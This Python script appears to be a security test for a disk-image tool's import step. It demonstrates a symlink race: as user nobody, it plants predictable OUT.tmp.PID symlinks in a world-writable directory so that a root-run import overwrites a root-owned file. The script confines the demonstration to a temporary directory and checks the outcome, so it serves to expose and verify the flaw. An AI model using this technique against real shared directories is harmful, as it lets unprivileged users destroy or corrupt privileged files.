#!/usr/bin/env python3
# kbox image import writes its output first to OUT.tmp.PID, opened with fopen("we")
# (import.c): no O_EXCL, no O_NOFOLLOW, a name anyone can guess. Where OUT is in a shared
# directory (/tmp: initramfs/build's own "$list.img" is /tmp/tmp.XXXXXXXXXX.img, its name
# visible once mktemp made $list), another user plants OUT.tmp.N symlinks for the next PIDs
# and the build, run as root, writes the cpio through one of them into any file, then
# renames the symlink onto OUT. Here user nobody plants them in a 1777 directory and a
# root-owned file outside it is overwritten. (fs.protected_symlinks=1 stops this where it is
# set; this machine has it 0.)
# usage: tmp-symlink.py
import os
import sys
import tempfile
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lib import *

d = tempfile.mkdtemp(prefix='img13-sym.')
os.chmod(d, 0o755)
shared = os.path.join(d, 'shared')
os.mkdir(shared)
os.chmod(shared, 0o1777)
victim = os.path.join(d, 'victim')
put(victim, b'must survive\n')
os.chmod(victim, 0o600)
src = os.path.join(d, 'img.tar')
put(src, tar(file('hello', 'hi\n')))
out = os.path.join(shared, 'appliance.img')
last = int(open('/proc/sys/kernel/ns_last_pid').read())
pid = os.fork()
if pid == 0:
    os.setgid(65534)
    os.setuid(65534)
    for p in range(last + 1, last + 400):
        os.symlink(victim, '%s.tmp.%d' % (out, p))
    os._exit(0)
os.waitpid(pid, 0)
rc, err, _ = run_import(['-o', out, 'x=tar:' + src], 30)
with open(victim, 'rb') as f:
    head = f.read(6)
print('import exit %s; %s is %s' % (rc, out, 'a symlink to ' + os.readlink(out) if os.path.islink(out) else 'a file'))
sys.exit(verdict(head != b'must s', 'the root-owned %s now starts %r' % (victim, head)))
